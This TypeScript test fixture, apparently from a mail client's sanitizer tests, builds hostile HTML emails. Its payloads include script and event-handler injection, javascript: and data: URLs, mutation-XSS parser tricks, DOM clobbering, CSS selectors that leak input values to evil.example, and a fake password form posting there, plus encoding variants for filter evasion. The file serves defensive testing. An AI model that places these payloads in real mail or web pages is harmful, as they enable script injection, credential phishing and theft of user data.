import type { Dice } from '../faults/dice.ts'

/** Where everything hostile tries to reach. */
export const evil = 'http://evil.example'
/** What hostile code would say, if it ran. */
export const mark = 'hostile code ran'

const run = `console.log('${mark}');alert('${mark}');top.document.title='${mark}';fetch('${evil}/ran')`
const js = run.replaceAll("'", '&#39;')

/** One of each way in that mail has been used for; `n` makes its addresses its own. */
const seeds: readonly ((n: number) => string)[] = [
  () => `<script>${run}</script>`,
  (n) => `<script src="${evil}/${n}.js"></script>`,
  (n) => `<img src="${evil}/${n}.png" onerror="${js}" onload="${js}">`,
  () =>
    `<div onclick="${js}" onmouseover="${js}" onpointerenter="${js}" onfocus="${js}" tabindex="0" autofocus>hover me</div>`,
  () => `<details open ontoggle="${js}"><summary>more</summary></details>`,
  () => `<a href="javascript:${js}">your bill</a>`,
  () => `<a href="vbscript:msgbox(1)">your bill</a>`,
  () => `<a href="data:text/html,<script>${js}</script>">your bill</a>`,
  () => `<a href="data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}">your bill</a>`,
  (n) =>
    `<svg onload="${js}"><image href="${evil}/${n}.svg"/><a xlink:href="javascript:${js}"><text>x</text></a><script>${run}</script></svg>`,
  () => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="${js}"/></svg>`,
  () =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;"></table></mtext></math>`,
  () => `<math href="javascript:${js}">x</math>`,
  () => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js}">`,
  () => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  () => `<svg></p><style><a id="</style><img src=1 onerror=${js}>"></svg>`,
  () => `<template><script>${run}</script></template><xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`,
  () => `<textarea><p title="</textarea><img src=x onerror=${js}>"></textarea>`,
  (n) =>
    `<meta http-equiv="refresh" content="0;url=${evil}/${n}"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  (n) => `<base href="${evil}/${n}/" target="_top"><a href="bill.html">your bill</a><img src="logo.png">`,
  (n) =>
    `<form action="${evil}/${n}" method="post" target="_top"><input name="password" type="password" autofocus><button>Sign in</button></form>`,
  (n) =>
    `<input type="image" src="${evil}/${n}.png" formaction="javascript:${js}"><isindex action="${evil}/${n}" type="image">`,
  (n) => `<iframe src="${evil}/${n}"></iframe><iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (n) =>
    `<object data="${evil}/${n}.swf"><embed src="${evil}/${n}.swf"></object><applet code="${evil}/${n}.class"></applet>`,
  (n) => `<frameset><frame src="${evil}/${n}"></frameset>`,
  (n) =>
    `<link rel="stylesheet" href="${evil}/${n}.css"><link rel="dns-prefetch" href="${evil}"><link rel="prefetch" href="${evil}/${n}">`,
  (n) =>
    `<style>@import url("${evil}/${n}.css"); @font-face{font-family:x;src:url(${evil}/${n}.woff)} body,p{font-family:x}</style>`,
  (n) =>
    `<style>input[value^="a"]{background:url(${evil}/${n}?a)} a[href*="conversations"]{background:url(${evil}/${n}?b)}</style>`,
  () => `<style>body{position:fixed;inset:0;z-index:99999;background:red} *{display:none !important}</style>`,
  () =>
    `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">Please sign in again</div>`,
  () =>
    `<div style="position:absolute;top:-4000px;left:-4000px;width:9999px;height:9999px;background:red">covers</div>`,
  () => `<div style="margin:-3000px 0 0 -3000px;transform:scale(50);width:900vw">large</div>`,
  (n) =>
    `<p style="background:url('${evil}/${n}.png');background-image:url(${evil}/${n}.gif);list-style:url(${evil}/${n}.jpg);cursor:url(${evil}/${n}.cur),auto">styled</p>`,
  (n) =>
    `<p style="width:expression(${js});-moz-binding:url(${evil}/${n}.xml#x);behavior:url(${evil}/${n}.htc)">styled</p>`,
  (n) =>
    `<p style="b\\61 ckground:u\\72l(${evil}/${n}.png);background:image-set('${evil}/${n}.png' 1x);content:url(${evil}/${n})">styled</p>`,
  (n) => `<img srcset="${evil}/${n}.png 1x, ${evil}/${n}b.png 2x" lowsrc="${evil}/${n}.png" dynsrc="${evil}/${n}.avi">`,
  (n) => `<picture><source srcset="${evil}/${n}.webp"><img src="//evil.example/${n}.png"></picture>`,
  (n) =>
    `<video src="${evil}/${n}.mp4" poster="${evil}/${n}.png" autoplay onplay="${js}"></video><audio src="${evil}/${n}.mp3" autoplay></audio>`,
  (n) =>
    `<table background="${evil}/${n}.png"><tr><td background="${evil}/${n}.gif">cell</td></tr></table><body background="${evil}/${n}.jpg">`,
  () =>
    `<img name="attributes"><img name="body"><img id="createElement"><a id="location" href="javascript:${js}"></a><form id="documentElement"></form>`,
  () =>
    `<form name="body"><input name="attributes"><input name="parentNode"><input name="children"></form><img id="root"><div id="composer-words">x</div>`,
  (n) =>
    `<a href="${evil}/${n}" ping="${evil}/${n}/ping" target="_top">your bill</a><area href="javascript:${js}"><map name="m"></map>`,
  () =>
    `<a href="/api/v1/session" target="_self">sign out</a><a href="//evil.example/x">x</a><a href="file:///etc/passwd">x</a>`,
  () => `<img src="/api/v1/session"><img src="blob:${evil}/x"><img src="data:image/svg+xml,<svg onload=${js}>">`,
  () =>
    `<button popovertarget="p" autofocus onclick="${js}">go</button><dialog open id="p">Sign in again</dialog><marquee onstart="${js}">x</marquee>`,
  () => `<p>${'<div>'.repeat(600)}deep${'</div>'.repeat(3)}</p></div></div></body></html><script>${run}</script>`,
  () =>
    `<!--[if gte IE 4]><script>${run}</script><![endif]--><!--><img src=x onerror="${js}">--><![CDATA[<script>${run}</script>]]>`,
  () =>
    `<custom-part onconnected="${js}"><slot name="x"><script type="module">${run}</script></slot></custom-part><portal src="${evil}"></portal>`,
]

const flipCase = (html: string, dice: Dice) =>
  html.replace(/<\/?[a-z-]+|\bon[a-z]+=|javascript:|url\(/gi, (word) =>
    [...word].map((letter) => (dice.onceIn(2) ? letter.toUpperCase() : letter.toLowerCase())).join(''),
  )

/** Ways in which one payload is written differently and still means the same to some browser. */
const twists: readonly ((html: string, dice: Dice) => string)[] = [
  (html) => html,
  flipCase,
  (html) => html.replace(/javascript:/gi, 'java\tscr\nipt&colon;').replace(/ on/g, '\n/on'),
  (html) => html.replace(/javascript:/gi, '&#x6A;&#97;vascript&#58;').replace(/<(\w+) /g, '<$1/'),
  (html) => html.replace(/="([^"<>]*)"/g, (_, value: string) => `=\`${value}\` x="${value}"`),
  (html) => html.replace(/<(\w+)/g, (tag, _, at: number) => (at === 0 ? `${tag} class="m" ${tag.slice(1)}` : tag)),
  (html) => html.replace(/<(script|style|iframe|img)/gi, '\0<$1\f'),
  (html) => `<table><tr><td><blockquote>${html}</td></p></table>`,
  (html) => `<svg><foreignObject><math><mi>${html}</mi></math></foreignObject></svg>${html}`,
  (html) => `<noscript>${html}</noscript><title>${html}</title>${html}`,
  (html) => html.replace(/>$/, '') + html,
  (html) => `<div title="${html.replaceAll('"', "'")}">${html}</div>`,
]

/** One hostile mail for each way in, each written in a way that chance chose; half of them plainly as well. */
export function hostileMails(dice: Dice): string[] {
  return seeds.map((seed, n) => {
    const twist = twists[dice.upTo(twists.length)] ?? flipCase
    const twisted = twist(seed(n), dice)
    return dice.onceIn(2) ? seed(n) + twisted : twisted
  })
}
